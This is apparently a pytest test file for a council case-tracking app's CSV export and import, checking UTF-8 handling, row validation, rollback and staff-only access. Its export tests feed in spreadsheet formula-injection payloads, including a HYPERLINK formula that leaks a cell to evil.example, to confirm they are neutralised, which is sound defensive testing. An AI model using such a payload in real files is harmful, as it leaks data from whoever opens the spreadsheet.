"""CSV exchange: the streamed export of a body's cases and the all-or-nothing import of outcomes,
through the services and through the staff pages."""
from __future__ import annotations

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import func, select
from sqlalchemy.exc import OperationalError

from assembly.audit.models import AuditEvent
from assembly.cases import exchange, outcome_rows
from assembly.cases import queries
from assembly.cases import services as cases
from assembly.cases.queries import InboxFilters
from assembly.cases.models import Case, CaseEvent
from assembly.db import db
from assembly.errors import InvalidTransition, NotAllowed
from assembly.notifications.models import Notification
from tests import case_factories as cf
from tests import factories
from tests.support import english_client
from tests.support import text as page_text

DAY = dt.timedelta(days=1)
ISTANBUL = ZoneInfo("Europe/Istanbul")
FULL_HEADER = "reference,status,date,note,meeting_at,agenda_number,decision,progress,record_url"

# `w` (tests/fixtures.py) is `cf.world()`: Kadıköy with the council and the police.
pytestmark = pytest.mark.world("cases")


@pytest.fixture
def t0(w):
    return factories.now()


def _day(moment: dt.datetime) -> str:
    return moment.astimezone(ISTANBUL).date().isoformat()


def _parse(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def _export(actor, now, body, filters=None, batch=1000) -> tuple[list[str], list[list[str]]]:
    chunks = list(exchange.export_rows(actor, now, body, filters, batch=batch))
    return chunks, _parse("".join(chunks))


# --- export ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+90 555", "'+90 555"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=cmd", "'\t=cmd"), ("\r=cmd", "'\r=cmd"), ("＝1+1", "'＝1+1"), ("Işık = ışık", "Işık = ışık"),
    ("2026-11-24", "2026-11-24"), ("", ""),
])
def test_cells_that_a_spreadsheet_would_run_are_neutralised(value, expected):
    assert exchange.neutralise(value) == expected


def test_the_export_is_utf8_with_bom_formula_safe_and_keeps_turkish_and_persian(w, t0):
    persian = cf.forwarded(w, t0, "روشنایی کوچه یاس")
    turkish = cf.forwarded(w, t0, "Işıklı İğdır sokağı: çöp, şüphe")
    evil = cf.forwarded(w, t0, '=HYPERLINK("http://evil.example/?leak="&A1;"click")')
    cf.walk(w, turkish, t0 + DAY, until="in_progress")
    cases.receive(w.staff, t0 + DAY, evil)
    cases.schedule(w.staff, t0 + DAY, evil, meeting_at=t0 + 5 * DAY, agenda_number="@SUM(1+1)")
    cf.forwarded(w, t0, "Another body's case", body=w.other_body)

    chunks, rows = _export(w.staff, t0 + 40 * DAY, w.body)
    assert chunks[0].startswith("\ufeffreference,title,")
    assert rows[0] == list(exchange.EXPORT_COLUMNS)
    by_reference = {row[0]: dict(zip(rows[0], row)) for row in rows[1:]}
    assert set(by_reference) == {persian.reference, turkish.reference, evil.reference}
    assert by_reference[persian.reference]["title"] == "روشنایی کوچه یاس"
    assert by_reference[persian.reference]["neighbourhood"] == "Caferağa"
    assert by_reference[persian.reference]["overdue"] == "yes"
    assert by_reference[persian.reference]["url_path"] == f"/cases/{persian.reference}"
    row = by_reference[turkish.reference]
    assert row["title"] == "Işıklı İğdır sokağı: çöp, şüphe"
    assert (row["status"], row["decision"], row["progress"], row["overdue"]) == ("in_progress", "approved", "40", "no")
    assert row["forwarded_at"] == t0.astimezone(ISTANBUL).isoformat(timespec="seconds")
    assert row["forwarded_at"].endswith("+03:00") and row["agenda_number"] == "2026/41"
    assert row["received_at"] and row["decided_at"] and row["council_meeting_at"]
    danger = by_reference[evil.reference]
    assert danger["title"] == '\'=HYPERLINK("http://evil.example/?leak="&A1;"click")'
    assert danger["agenda_number"] == "'@SUM(1+1)"
    assert all(not cell.startswith(exchange.FORMULA_STARTS) for row in rows for cell in row)


def test_the_export_streams_in_chunks_and_filters(w, t0):
    made = [cf.forwarded(w, t0) for _ in range(5)]
    cases.receive(w.staff, t0 + DAY, made[0])
    chunks, rows = _export(w.staff, t0, w.body, batch=2)
    assert len(chunks) == 3  # 2 + 2 + 1 rows, the header in the first
    assert all(chunk.endswith("\r\n") for chunk in chunks)
    assert [row[0] for row in rows[1:]] == [case.reference for case in made]
    _, received = _export(w.staff, t0, w.body, InboxFilters(status="received"))
    assert [row[0] for row in received[1:]] == [made[0].reference]
    _, overdue = _export(w.staff, t0 + 31 * DAY, w.body, InboxFilters(overdue=True))
    assert len(overdue) == 6
    _, none = _export(w.staff, t0, w.body, InboxFilters(category_id=w.category.id + 1000))
    assert none == [list(exchange.EXPORT_COLUMNS)]


@pytest.mark.parametrize("who", ["other_staff", "muhtar"])
def test_only_the_body_s_staff_may_export(w, t0, who):
    cf.forwarded(w, t0)
    with pytest.raises(NotAllowed):  # at the call, before any row is produced
        exchange.export_rows(getattr(w, who), t0, w.body)


# --- import: success ------------------------------------------------------------------------------

def _csv(*lines: str) -> bytes:
    return ("\r\n".join(lines) + "\r\n").encode("utf-8")


def _state() -> tuple:
    """What an import could change."""
    return (db.session.scalar(select(func.count()).select_from(CaseEvent)),
            db.session.scalar(select(func.count()).select_from(Notification)),
            db.session.scalar(select(func.count()).select_from(AuditEvent)),
            tuple(db.session.execute(select(Case.id, Case.status, Case.decision, Case.progress,
                                            Case.event_count).order_by(Case.id))))


@pytest.fixture
def three(w, t0):
    return [cf.forwarded(w, t0) for _ in range(3)]


def test_a_correct_file_is_applied_completely_and_chained(w, t0, three):
    a, b, c = three
    now = t0 + 3 * DAY
    d1, d2, d5 = _day(t0 + DAY), _day(t0 + 2 * DAY), _day(t0 + 5 * DAY)
    data = b"\xef\xbb\xbf" + _csv(
        FULL_HEADER,
        f"{a.reference},received,{d1},Kayda alındı,,,,,",
        f'{a.reference},scheduled,{d1} 10:00,"Meclis gündeminde,\nmadde 41",{d5} 18:30,2026/41,,,'
        "https://meclis.example.org/41",
        f"{a.reference},decided,{d2},Oy birliğiyle kabul,,,approved,,",
        f"{a.reference},in_progress,{d2},,,,,30,",
        f"{b.reference},received,{d1},,,,,,",
        f"{b.reference},rejected,{d2},Bütçe yok — پول نداریم,,,,,",
        f"{c.reference.lower()},Received,{d2}T09:15:00+03:00,,,,,,",
    )
    report = exchange.import_outcomes(w.staff, now, w.body, data)
    assert (report.ok, report.applied, report.errors) == (True, 7, [])

    assert [e.kind for e in queries.events_of(a)] == ["forwarded", "received", "scheduled", "decided", "in_progress"]
    assert (a.status, a.decision, a.progress, a.agenda_number) == ("in_progress", "approved", 30, "2026/41")
    assert a.council_meeting_at == dt.datetime.fromisoformat(f"{d5}T18:30").replace(tzinfo=ISTANBUL)
    assert a.council_record_url == "https://meclis.example.org/41"
    assert (b.status, b.decision) == ("decided", "rejected")
    assert queries.events_of(b)[-1].note == "Bütçe yok — پول نداریم"
    assert c.status == "received"
    events = queries.events_of(a)
    assert events[1].data == {"effective_date": d1}
    assert events[2].data["effective_date"] == dt.datetime.fromisoformat(f"{d1}T10:00").replace(
        tzinfo=ISTANBUL).astimezone(dt.timezone.utc).isoformat()
    assert events[2].note == "Meclis gündeminde,\nmadde 41"
    assert queries.events_of(c)[-1].data == {"effective_date": f"{d2}T06:15:00+00:00"}
    assert {e.created_at for case in three for e in queries.events_of(case)[1:]} == {now}
    assert all(cases.verify_chain(case, queries.events_of(case)) is None for case in three)
    assert list(cases.verify_all()) == []
    audit = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "cases.import"))
    assert (audit.actor_id, audit.detail) == (w.staff.id, {"rows": 7})
    assert db.session.scalar(select(func.count()).select_from(Notification).where(
        Notification.user_id == w.author.id, Notification.kind == "case_event")) == 3 + 7


def test_the_four_required_columns_are_enough(w, t0, three):
    a = three[0]
    report = exchange.import_outcomes(w.staff, t0 + DAY, w.body, _csv(
        "reference,status,date,note", f"{a.reference},received,{_day(t0)},", "",
        f"{a.reference},deferred,{_day(t0 + DAY)},Bir sonraki oturum"))
    assert (report.ok, report.applied) == (True, 2)
    assert (a.status, a.decision) == ("decided", "deferred")


# --- import: refused files ------------------------------------------------------------------------

def _refused(w, now, data: bytes) -> list[tuple[int, str]]:
    before = _state()
    report = exchange.import_outcomes(w.staff, now, w.body, data)
    assert not report.ok and report.applied == 0
    db.session.expire_all()
    assert _state() == before, "a refused file changed the database"
    return [(error.line, error.message) for error in report.errors]


def _lines(errors) -> list[int]:
    return [line for line, _message in errors]


@pytest.mark.parametrize("header, message", [
    ("reference,state,date,note", "must start with the columns reference,status,date,note"),
    ("status,reference,date,note", "must start with the columns"),
    ("reference,status,date", "must start with the columns"),
    ("reference,status,date,note,colour", "unknown column “colour”"),
    ("reference,status,date,note,progress,progress", "appears twice"),
])
def test_a_wrong_header_is_refused(w, t0, three, header, message):
    errors = _refused(w, t0 + DAY, _csv(header, f"{three[0].reference},received,{_day(t0)},"))
    assert _lines(errors) == [1] and message in errors[0][1]


def test_every_wrong_row_is_listed_with_its_line_and_nothing_is_applied(w, t0, three):
    a, b, c = three
    police_case = cf.forwarded(w, t0, body=w.other_body)
    today = _day(t0 + DAY)
    errors = _refused(w, t0 + DAY, _csv(
        FULL_HEADER,
        f"{a.reference},received,{today},fine,,,,,",                     # 2: correct
        f"KDK-CAFERAGA-1999-0042,received,{today},,,,,,",               # 3: unknown reference
        f"{police_case.reference},received,{today},,,,,,",              # 4: another body's case
        f"{b.reference},decided,{today},,,,approved,,",                 # 5: illegal: not received yet
        f"{a.reference},received,{today},,,,,,",                        # 6: illegal after line 2
        f"{c.reference},archived,{today},,,,,,",                        # 7: unknown status
        f"{c.reference},received,24.11.2026,,,,,,",                     # 8: not ISO 8601
        f"{c.reference},approved,,,,,,,",                               # 9: no date
        "",                                                             # 10: blank lines are skipped
        f"{a.reference},rejected,{today},  ,,,,,",                      # 11: rejection without a reason
        f"{b.reference},received,{today},,,,,10,",                      # 12: progress on a received row
        f"{b.reference},received,{today}",                              # 13: too few columns
    ))
    assert _lines(errors) == [3, 4, 5, 6, 7, 8, 9, 11, 12, 13], errors
    messages = dict(errors)
    assert "KDK-CAFERAGA-1999-0042" in messages[3]
    assert "another body" in messages[4]
    assert "cannot be marked" in messages[5] and "Forwarded" in messages[5]
    assert messages[6].startswith("after line 2")
    assert "unknown status “archived”" in messages[7]
    assert "24.11.2026" in messages[8]
    assert "missing" in messages[9]
    assert "rejection needs a reason" in messages[11]
    assert "progress" in messages[12]
    assert "expected 9 columns but found 3" in messages[13]


@pytest.mark.parametrize("rows, line, message", [
    # within the same file: a rejected case cannot go on
    (["{a},received,{d}", "{a},rejected,{d},Bütçe yok", "{a},done,{d}"], 4, "after line 3"),
    # a case that the database already has as received
    (["{b},received,{d}"], 2, "is “Received” and cannot be marked “Received”"),
    # scheduled twice is allowed, decided twice is not (approved)
    (["{b},approved,{d}", "{b},approved,{d}"], 3, "after line 2"),
    # done before any decision
    (["{a},received,{d}", "{a},done,{d}"], 3, "cannot be marked “Done”"),
])
def test_illegal_transitions_are_refused_also_within_the_file(w, t0, three, rows, line, message):
    a, b, _c = three
    cases.receive(w.staff, t0, b)
    lines = [row.format(a=a.reference, b=b.reference, d=_day(t0 + DAY)) for row in rows]
    errors = _refused(w, t0 + DAY, _csv("reference,status,date,note", *[
        row + "," * (3 - row.count(",")) for row in lines]))
    assert _lines(errors) == [line] and message in errors[0][1]


@pytest.mark.parametrize("date, message", [
    ("2026-13-01", "is not a date"),
    ("2026-02-30", "is not a date"),
    ("2026-11-24T25:00", "is not a date"),
    ("20261124", "is not a date"),
    ("2026-W48-2", "is not a date"),
    ("next tuesday", "is not a date"),
    ("FUTURE", "lies in the future"),
    ("BEFORE", "before the case was forwarded"),
])
def test_a_bad_date_is_refused(w, t0, three, date, message):
    date = {"FUTURE": _day(t0 + 3 * DAY), "BEFORE": _day(t0 - 2 * DAY)}.get(date, date)
    errors = _refused(w, t0 + DAY, _csv("reference,status,date,note", f"{three[0].reference},received,{date},"))
    assert _lines(errors) == [2] and message in errors[0][1]


def test_dates_of_one_case_must_not_go_backwards(w, t0, three):
    a = three[0]
    errors = _refused(w, t0 + 3 * DAY, _csv("reference,status,date,note",
                                            f"{a.reference},received,{_day(t0 + 2 * DAY)},",
                                            f"{a.reference},approved,{_day(t0 + DAY)},"))
    assert _lines(errors) == [3] and "earlier than the date of line 2" in errors[0][1]


@pytest.mark.parametrize("row, message", [
    ("{a},scheduled,{d},,,,,,", "meeting_at"),
    ("{a},scheduled,{d},,soon,,,,", "in meeting_at is not a date"),
    ("{a},scheduled,{d},,{d},,,,ftp://x", "record_url"),
    ("{a},scheduled,{d},,{d},{long},,,", "agenda number"),
    ("{a},decided,{d},,,,,,", "decision column"),
    ("{a},decided,{d},,,,referred,,", "referral"),
    ("{a},approved,{d},,,,rejected,,", "the decision says"),
    ("{a},in_progress,{d},,,,,,", "progress"),
    ("{a},in_progress,{d},,,,,101,", "progress"),
    ("{a},in_progress,{d},,,,,half,", "progress"),
    ("{a},approved,{d},,{d},,,,", "only used with the status scheduled"),
    ("{a},scheduled,{d},,{d},,approved,,", "only used with the status decided"),
    ("{a},approved,{d},{huge},,,,,", "longer than 2,000"),
    (",received,{d},,,,,,", "reference number is missing"),
])
def test_field_rules_are_checked_before_anything_is_applied(w, t0, three, row, message):
    a = three[0]
    cases.receive(w.staff, t0, a)
    line = row.format(a=a.reference, d=_day(t0 + DAY), long="x" * 41, huge="y" * 5001)
    if "in_progress" in row:
        cases.decide(w.staff, t0, a, decision="approved")
    errors = _refused(w, t0 + DAY, _csv(FULL_HEADER, line))
    assert _lines(errors) == [2] and message in errors[0][1], errors


def test_line_numbers_count_physical_lines_of_multi_line_notes(w, t0, three):
    a, b, _c = three
    d = _day(t0 + DAY)
    errors = _refused(w, t0 + DAY, _csv(
        "reference,status,date,note",
        f'{a.reference},received,{d},"first line',
        "second line",
        'third line"',
        f"{b.reference},done,{d},"))
    assert _lines(errors) == [5]


VALID = "reference,status,date,note\r\nKDK-CAFERAGA-{year}-0001,received,{day},Bütçe kabul\r\n"


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "latin-1", "cp1254", "nul"])
def test_wrong_encodings_are_refused_with_line_0(w, t0, three, encoding):
    text = VALID.format(year=t0.year, day=_day(t0 + DAY))
    data = b"\x00" + text.encode() if encoding == "nul" else text.encode(encoding)
    errors = _refused(w, t0 + DAY, data)
    assert errors == [(0, "the file is not UTF-8. Save it as “CSV UTF-8” and try again.")]
    assert exchange.import_outcomes(w.staff, t0 + DAY, w.body, text.encode("utf-8")).ok


@pytest.mark.parametrize("data, line", [
    (b"", 1), (b"\r\n\r\nreference,status,date,note\r\n", 1), (b"reference,status,date,note\r\n", 1),
    (b'reference,status,date,note\r\nX,received,2026-11-24,"never closed\r\n', 2),
    (b'reference,status,date,note\r\nX,received,2026-11-24,"a"b\r\n', 2),
])
def test_empty_or_broken_csv_is_refused(w, t0, data, line):
    errors = _refused(w, t0, data)
    assert _lines(errors) == [line]


def test_too_many_rows_are_refused(w, t0, three, monkeypatch):
    monkeypatch.setattr(outcome_rows, "MAX_ROWS", 2)
    d = _day(t0)
    errors = _refused(w, t0, _csv("reference,status,date,note", *[f"{c.reference},received,{d}," for c in three]))
    assert _lines(errors) == [0] and "more than 2 rows" in errors[0][1]


@pytest.mark.parametrize("failure", ["domain", "database"])
def test_a_failure_while_applying_rolls_back_every_row(w, t0, three, monkeypatch, failure):
    real, calls = cases.apply_event, []

    def failing(actor, now, case, kind, fields):
        calls.append(kind)
        if len(calls) == 3:
            if failure == "domain":
                raise InvalidTransition("The case was changed in the meantime.")
            raise OperationalError("INSERT", {}, Exception("connection lost"))
        return real(actor, now, case, kind, fields)

    monkeypatch.setattr(cases, "apply_event", failing)
    d = _day(t0)
    before = _state()
    report = exchange.import_outcomes(w.staff, t0, w.body, _csv(
        "reference,status,date,note", *[f"{c.reference},received,{d}," for c in three]))
    assert report.applied == 0 and _lines([(e.line, e.message) for e in report.errors]) == [4]
    assert calls == ["received"] * 3
    db.session.expire_all()
    assert _state() == before
    assert [c.status for c in three] == ["forwarded"] * 3


def test_only_the_body_s_staff_may_import(w, t0, three):
    for actor in (w.other_staff, w.muhtar, w.author):
        with pytest.raises(NotAllowed):
            exchange.import_outcomes(actor, t0, w.body, _csv("reference,status,date,note",
                                                             f"{three[0].reference},received,{_day(t0)},"))


# --- the pages ------------------------------------------------------------------------------------

@pytest.fixture
def site(app):
    """Committed like a request would; ids, references and e-mails only."""
    with app.app_context():
        w = cf.world()
        t0 = factories.now() - DAY
        made = [cf.forwarded(w, t0, "روشنایی کوچه یاس"), cf.forwarded(w, t0, "=1+2"), cf.forwarded(w, t0)]
        db.session.commit()
        return {"body": w.body.id, "other_body": w.other_body.id, "refs": [c.reference for c in made],
                "staff": w.staff.email, "other_staff": w.other_staff.email, "day": _day(t0 + DAY)}



def _event_count(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(CaseEvent))


def test_the_export_page_streams_an_attachment(app, site):
    response = english_client(app, site["staff"]).get(f"/staff/bodies/{site['body']}/export.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="council-')
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = _parse(response.data.decode("utf-8"))
    assert [row[0] for row in rows[1:]] == site["refs"]
    assert rows[1][1] == "روشنایی کوچه یاس" and rows[2][1] == "'=1+2"


def test_the_export_and_import_pages_are_for_the_body_s_staff_only(app, site):
    for path in (f"/staff/bodies/{site['body']}/export.csv", f"/staff/bodies/{site['body']}/import"):
        assert english_client(app, site["other_staff"]).get(path).status_code == 403
        anonymous = english_client(app).get(path)
        assert anonymous.status_code == 302 and "/account/login" in anonymous.headers["Location"]
    assert english_client(app, site["staff"]).get("/staff/bodies/999999/export.csv").status_code == 404
    other = english_client(app, site["other_staff"]).post(
        f"/staff/bodies/{site['body']}/import",
        data={"file": (io.BytesIO(_csv("reference,status,date,note", f"{site['refs'][0]},received,{site['day']},")),
                       "outcomes.csv")}, content_type="multipart/form-data")
    assert other.status_code == 403


def test_the_import_page_lists_every_error_and_changes_nothing(app, site):
    client = english_client(app, site["staff"])
    page = client.get(f"/staff/bodies/{site['body']}/import")
    assert page.status_code == 200 and 'enctype="multipart/form-data"' in page_text(page)
    before = _event_count(app)
    data = _csv("reference,status,date,note", f"{site['refs'][0]},received,{site['day']},",
                f"KDK-NOWHERE-2026-0001,received,{site['day']},", f"{site['refs'][1]},done,{site['day']},")
    response = client.post(f"/staff/bodies/{site['body']}/import",
                           data={"file": (io.BytesIO(data), "outcomes.csv")}, content_type="multipart/form-data")
    assert response.status_code == 400
    body = page_text(response)
    assert "The file was not imported: 2 problems were found." in body
    assert "Line 3: there is no case with the reference number “KDK-NOWHERE-2026-0001”." in body
    assert "Line 4: the case " in body and "cannot be marked “Done”" in body
    assert _event_count(app) == before

    latin = client.post(f"/staff/bodies/{site['body']}/import",
                        data={"file": (io.BytesIO("reference,status,date,note\nş,ü,ç,ğ\n".encode("cp1254")),
                                       "outcomes.csv")}, content_type="multipart/form-data")
    assert latin.status_code == 400 and "File: the file is not UTF-8." in page_text(latin)
    missing = client.post(f"/staff/bodies/{site['body']}/import", data={}, content_type="multipart/form-data")
    assert missing.status_code == 400 and "Choose a CSV file." in page_text(missing)
    assert _event_count(app) == before


def test_the_import_page_applies_a_correct_file(app, site):
    client = english_client(app, site["staff"])
    before = _event_count(app)
    data = _csv("reference,status,date,note", f"{site['refs'][0]},received,{site['day']},",
                f"{site['refs'][0]},rejected,{site['day']},Bütçe yok")
    response = client.post(f"/staff/bodies/{site['body']}/import",
                           data={"file": (io.BytesIO(data), "outcomes.csv")}, content_type="multipart/form-data")
    assert response.status_code == 302
    assert "2 rows were applied." in page_text(client.get(response.headers["Location"]))
    assert _event_count(app) == before + 2
    with app.app_context():
        case = queries.get_by_reference(site["refs"][0])
        assert (case.status, case.decision) == ("decided", "rejected")
